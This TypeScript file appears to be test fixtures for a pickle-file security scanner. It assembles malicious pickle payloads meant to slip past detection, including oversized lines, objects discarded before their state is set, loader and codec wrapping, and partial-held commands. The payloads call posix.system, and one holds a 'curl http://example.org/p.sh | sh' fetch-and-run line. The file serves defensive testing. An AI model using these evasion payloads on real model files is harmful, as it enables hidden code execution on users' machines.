import { MAX_GLOBALS } from '../../formats/pickle/machine/globals';
import { bytes, u32 } from '../bytes';
import { call, glob, proto, str } from '../pickle-assembler';
import type { Groups, Row } from './row';
import { RUN } from './row';

// Payloads behind what the machine forgets, doesn't read, or takes for granted.

const PAYLOAD = "cposix\nsystem\n(S'echo hi'\ntR.";
const binbytes = (value: string): Uint8Array => bytes('B', u32(value.length), value);
const text = (value: string): Uint8Array => bytes('X', u32(value.length), value);
const loaded = (...data: Uint8Array[]): Uint8Array =>
  proto(3, call(glob('torch.storage', '_load_from_bytes'), ...data));

const LONG: readonly Row[] = [
  ['a text line longer than the probe', bytes('V', 'a'.repeat(300_000), '\n0', PAYLOAD), 'posix', 'system', 'CRITICAL'],
  ['a number as long', bytes('F1.', '0'.repeat(300_000), '\n0', PAYLOAD), 'posix', 'system', 'CRITICAL'],
  ['the same behind a mark', bytes('(V', 'a'.repeat(300_000), '\n1', PAYLOAD), 'posix', 'system', 'CRITICAL']
];

const LOADED: readonly Row[] = [
  [
    'bytes by a character set that is not followed',
    loaded(call(glob('_codecs', 'encode'), text(PAYLOAD), text('cp1252'))),
    'torch.storage',
    '_load_from_bytes',
    'HIGH'
  ],
  [
    'bytes by an operator',
    loaded(call(glob('_operator', 'mul'), binbytes(PAYLOAD), bytes('K\x01'))),
    'torch.storage',
    '_load_from_bytes',
    'HIGH'
  ],
  [
    'a buffer over bytes',
    loaded(call(glob('builtins', 'memoryview'), binbytes(PAYLOAD))),
    'torch.storage',
    '_load_from_bytes',
    'HIGH'
  ],
  [
    'bytes longer than a constant',
    loaded(binbytes(PAYLOAD + '\0'.repeat(33 * 2 ** 20))),
    'posix',
    'system',
    'CRITICAL'
  ],
  [
    'the loader as the function that rebuilds a tensor',
    proto(
      3,
      call(
        glob('torch._tensor', '_rebuild_from_type_v2'),
        glob('torch.storage', '_load_from_bytes'),
        glob('torch', 'Tensor'),
        bytes(binbytes(PAYLOAD), 0x85),
        bytes('}')
      )
    ),
    'torch.storage',
    '_load_from_bytes',
    'HIGH'
  ]
];

const NORM = bytes(glob('scipy.stats._continuous_distns', 'norm_gen'), ')', 0x81);
const STATE = bytes('}', str('_parse_arg_template'), text("import os\nos.system('echo hi')"), 's');
const TRUSTED_NAMES = Array.from({ length: MAX_GLOBALS }, (_, i) => `cpandas.core.x\nB${i}\n0`).join('');
const OBJECT = bytes(glob('builtins', 'object'), 'q\x030');

const FORGOTTEN: readonly Row[] = [
  ['more names than are told apart', proto(2, TRUSTED_NAMES, RUN), '(computed)', '(computed)', 'HIGH'],
  [
    'an object that is forgotten before it gets its state',
    proto(2, NORM, 'q\x010(', ')'.repeat(1_100_000), 'l0h\x01', STATE, 'b'),
    'scipy.stats',
    'rv_continuous.__setstate__',
    'CRITICAL'
  ],
  [
    'an object that a harmless function returns',
    proto(2, call(glob('builtins', 'max'), bytes('(', NORM, 't')), STATE, 'b'),
    'scipy.stats',
    'rv_continuous.__setstate__',
    'CRITICAL'
  ],
  [
    'an object behind many of an unknown class',
    proto(
      2,
      bytes(glob('foo.bar', 'Baz'), 'q\x010', glob('copyreg', '_reconstructor'), 'q\x020', OBJECT),
      'h\x02h\x01h\x03N\x87R0'.repeat(100_001),
      'h\x02',
      glob('scipy.stats._continuous_distns', 'norm_gen'),
      bytes('h\x03N', 0x87, 'R', STATE, 'b')
    ),
    'scipy.stats._continuous_distns',
    'norm_gen.__setstate__',
    'CRITICAL'
  ]
];

const COMMAND = text('curl http://example.org/p.sh | sh');
const LAUNCH = glob('mypkg.tools', 'launch');
const PARTIAL = bytes(glob('functools', 'partial'), LAUNCH, 0x85, 'R(', LAUNCH, COMMAND, 0x85, '}Ntb');

const HELD: readonly Row[] = [
  ['a command in the state of a partial', proto(2, PARTIAL), 'mypkg.tools', 'launch', 'HIGH'],
  [
    'iter of something to call',
    proto(2, call(glob('builtins', 'list'), call(glob('builtins', 'iter'), PARTIAL, bytes('K\x00')))),
    'builtins',
    'iter',
    'HIGH'
  ]
];

const list = (item: Uint8Array): Uint8Array => bytes('](', ...Array.from({ length: 40 }, () => item), 'e');
/** More values than are looked at for one call. */
const LARGE = list(list(bytes('K\x01')));

const BEHIND: readonly Row[] = [
  ['a command behind a large argument', proto(2, call(LAUNCH, LARGE, COMMAND)), 'mypkg.tools', 'launch', 'HIGH'],
  [
    'a dangerous name behind a large argument',
    proto(2, call(glob('numpy.core.multiarray', '_reconstruct'), LARGE, glob('posix', 'system'))),
    'posix',
    'system',
    'CRITICAL'
  ]
];

/** Payloads where a scanner does not look. */
export const HIDDEN_EVASIONS: Groups = {
  'lines longer than the probe': LONG,
  'behind large arguments': BEHIND,
  'what a loader is given': LOADED,
  'what the machine forgets': FORGOTTEN,
  'what is held and called later': HELD
};
